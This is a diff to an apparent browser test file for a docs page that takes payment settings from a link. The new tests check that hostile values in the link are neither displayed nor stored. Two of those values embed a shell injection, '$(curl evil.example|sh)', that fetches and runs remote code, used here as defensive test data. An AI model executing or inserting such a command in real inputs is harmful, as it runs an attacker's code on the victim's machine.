@@ -32,10 +32,38 @@ it('the demo shop leads to the reference with its settings, which no request car
   await page.context().close();
 });
 
-it('a key of live payments is not taken', async () => {
+const SHELL = `${baseUrl}/$(curl evil.example|sh)`;
+const OTHERS = {
+  'a key of live payments': { PAYMENT_API_KEY: merchant.apiKey.replace('test', 'live') },
+  'a text that is no key': { PAYMENT_API_KEY: 'psk_test_$(curl evil.example|sh)' },
+  'a shorter key': { PAYMENT_API_KEY: merchant.apiKey.slice(0, -1) },
+  'another address': { PAYMENT_URL: 'https://evil.example', PAYMENT_API_KEY: 'psk_test_x' },
+  'another service of this machine': { PAYMENT_URL: 'http://localhost:1' },
+  'an address with a command': { PAYMENT_URL: SHELL },
+  'an address with a user': { PAYMENT_URL: baseUrl.replace('//', '//evil.example@') },
+};
+
+it.each(Object.entries(OTHERS))('%s in a link is shown nowhere', async (_, settings) => {
   const page = await newPage();
-  await page.goto(`${baseUrl}/docs/start.en#PAYMENT_API_KEY=psk_live_x`);
-  expect(await page.locator('main').textContent()).not.toContain('psk_live_x');
+  await page.goto(`${baseUrl}/docs/start.en#${new URLSearchParams(settings).toString()}`);
+  const text = await page.locator('main').textContent();
+  expect(Object.values(settings).filter((value) => text?.includes(value))).toEqual([]);
+  expect(await page.evaluate(() => sessionStorage.length)).toBe(0);
+  await page.context().close();
+});
+
+it('a service that is not on this machine takes no settings from a link', async () => {
+  const page = await newPage();
+  const pages = 'https://pay.shop.example';
+  await page.route(`${pages}/**`, async (route) => {
+    const { pathname, search } = new URL(route.request().url());
+    await route.fulfill({ response: await page.request.get(`${baseUrl}${pathname}${search}`) });
+  });
+  const settings = new URLSearchParams({ PAYMENT_URL: baseUrl, PAYMENT_API_KEY: merchant.apiKey });
+  await page.goto(`${pages}/docs/start.en#${settings.toString()}`);
+  await page.locator('html.ready').waitFor();
+  expect(await page.locator('main').textContent()).not.toContain(merchant.apiKey);
+  expect(await page.evaluate(() => sessionStorage.length)).toBe(0);
   await page.context().close();
 });
 
